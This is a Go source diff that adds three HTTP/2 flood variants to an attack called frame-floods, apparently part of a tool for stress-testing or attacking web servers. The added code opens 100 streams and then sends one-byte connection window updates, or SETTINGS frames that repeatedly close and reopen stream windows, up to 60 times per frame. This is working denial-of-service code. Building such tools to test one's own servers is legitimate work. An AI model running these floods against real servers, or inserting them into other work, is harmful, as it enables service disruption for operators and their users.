@@ -21,7 +21,7 @@ import (
 
 var frameFloods = attack{
 	name:  "frame-floods",
-	title: "clients of HTTP/2 send frames that ask for nothing, reset what they ask for, do not end a header, open no window, or one of a byte, and read slowly",
+	title: "clients of HTTP/2 send frames that ask for nothing, reset what they ask for, do not end a header, open no window, or one of a byte, close and open those of all streams at once, and read slowly",
 	run:   runFrameFloods,
 }
 
@@ -85,6 +85,28 @@ var flooders = []flooder{
 			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n - 1, BlockFragment: fields, EndHeaders: true, EndStream: true})
 		}
 		return f.WriteWindowUpdate(2*(n%100)+1, 1)
+	}},
+	{"streams that together may send a byte at a time", true, func(f *http2.Framer, fields []byte, n uint32) error {
+		if n < 100 {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: fields, EndHeaders: true, EndStream: true})
+		}
+		return f.WriteWindowUpdate(0, 1)
+	}},
+	{"settings that close and open the windows of streams that wait", true, func(f *http2.Framer, fields []byte, n uint32) error {
+		if n < 100 {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: fields, EndHeaders: true, EndStream: true})
+		}
+		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n % 2 * 70_000})
+	}},
+	{"settings that do so 60 times in a frame", true, func(f *http2.Framer, fields []byte, n uint32) error {
+		if n < 100 {
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: fields, EndHeaders: true, EndStream: true})
+		}
+		var all [60]http2.Setting
+		for i := range all {
+			all[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i) % 2 * 70_000}
+		}
+		return f.WriteSettings(all[:]...)
 	}},
 }
 
